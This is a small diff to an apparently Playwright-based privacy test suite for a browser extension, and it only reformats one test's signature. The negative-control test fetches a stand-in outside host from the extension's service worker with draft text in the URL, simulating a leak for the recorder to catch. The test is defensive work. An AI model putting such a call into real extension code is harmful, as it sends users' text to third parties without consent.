@@ -30,10 +30,7 @@ test('no request leaves the browser while the extension works on every page copy
   expect(net.external, `requests that left the browser:\n${net.external.join('\n')}`).toEqual([]);
 });
 
-test('the privacy check catches a request made by the extension (negative control)', async ({
-  context,
-  net,
-}) => {
+test('the privacy check catches a request made by the extension (negative control)', async ({ context, net }) => {
   const sw = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
   // Simulate a leak from the extension's own background: the recorder must see it.
   await sw.evaluate(() => fetch('https://collector.example.org/draft?text=hello').catch(() => null));
